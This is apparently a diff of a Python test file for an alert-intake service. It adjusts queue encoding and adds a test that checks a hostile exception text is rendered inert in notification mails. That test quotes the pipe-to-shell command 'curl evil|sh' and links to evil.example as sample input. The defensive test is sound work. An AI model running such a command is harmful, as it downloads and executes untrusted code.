@@ -1,6 +1,5 @@
 """Alerts of other tools, driven in process: from report to closing, through failures and crashes."""
 
-import base64
 from dataclasses import replace
 from datetime import timedelta
 from urllib.parse import urlsplit
@@ -23,6 +22,7 @@ from shared.persistence.queues import Message
 from tests.support.asgi import Credential
 from tests.support.containment import rotated
 from tests.support.driver import OWNER, Crashed, Driver, Lifetime, found, report
+from tests.support.harmless import Page, check_inert, check_text
 from tests.support.leaks import account_sas, blob_sas
 from tests.support.samples import NOW
 
@@ -49,7 +49,8 @@ def request(posted: Posted) -> func.HttpRequest:
     return func.HttpRequest(
         method="POST",
         url=f"https://sasquash/api/intake/{posted.source}",
-        headers={name.lower(): value for name, value in posted.headers.items()},
+        headers={name.lower(): value for name, value in posted.headers.items()}
+        | {"content-length": str(len(posted.body))},
         route_params={"source": posted.source},
         body=posted.body,
     )
@@ -130,7 +131,7 @@ async def test_message_in_the_queue_names_the_alert_and_nothing_else(driver: Dri
 
     client = driver.app().clients.queue("intake")
     texts = [message.content async for message in client.receive_messages(visibility_timeout=1)]
-    messages = [alert_queue.read(base64.b64decode(text).decode()) for text in texts]
+    messages = [alert_queue.read(text.encode()) for text in texts]
     assert reference in [message.alert for message in messages]
     assert all("sig=" not in str(message) for message in messages)
 
@@ -144,9 +145,9 @@ async def test_alert_that_can_t_be_read_becomes_a_failed_record_an_incident_and_
     await driver.app().http.alert_reader.resume(AlertMessage(reference, driver.clock()))
 
     message = AlertMessage(reference, driver.clock(), 0, "GitHub hides it from this app.")
-    text = msgspec.json.encode(message).decode()
+    text = msgspec.json.encode(message)
     for _ in range(2):
-        await driver.app().background.dead_letters.unread(text)
+        await driver.app().background.poison_messages.unread(text)
     fingerprints = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}
     [record] = [await driver.record(fingerprint) for fingerprint in fingerprints]
     before = len(driver.cloud.model.mails)
@@ -158,8 +159,29 @@ async def test_alert_that_can_t_be_read_becomes_a_failed_record_an_incident_and_
     assert "ALERT NOT READABLE" in driver.cloud.model.mails[before].subject
 
 
+async def test_failure_of_an_unreadable_alert_is_no_command_in_the_mail_about_it(driver: Driver) -> None:
+    """The text of an exception may quote what a service or a stranger said."""
+    failure = "Reading failed: `curl evil|sh`, see https://evil.example or <a href=//evil.example>this</a>."
+    message = AlertMessage(AlertReference(AlertSource.GITHUB, "contoso/x", "77"), driver.clock(), 0, failure)
+    await driver.app().background.poison_messages.unread(msgspec.json.encode(message))
+    [fingerprint] = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}
+    before = len(driver.cloud.model.mails)
+
+    await driver.app().background.follow_up.run(Message(fingerprint))
+
+    mail, [incident] = driver.cloud.model.mails[before], driver.incidents(fingerprint)
+    page = Page(mail.body)
+    assert "curl evil|sh" in "".join(page.text)
+    assert page.code == []
+    assert [link for link in page.links if not link.endswith(f"#/record/{fingerprint}")] == []
+    for text in incident.fields.values():
+        check_inert(text)
+    for line in await driver.history(fingerprint):
+        check_text(line.what)
+
+
 async def test_foreign_message_in_the_poison_queue_is_reported(driver: Driver) -> None:
-    await driver.app().background.dead_letters.unread("none of ours")
+    await driver.app().background.poison_messages.unread(b"none of ours")
     [fingerprint] = {s.message.fingerprint for s in driver.sent if s.queue == "follow-up"}
 
     assert (await driver.record(fingerprint)).reason is Reason.CRASHED
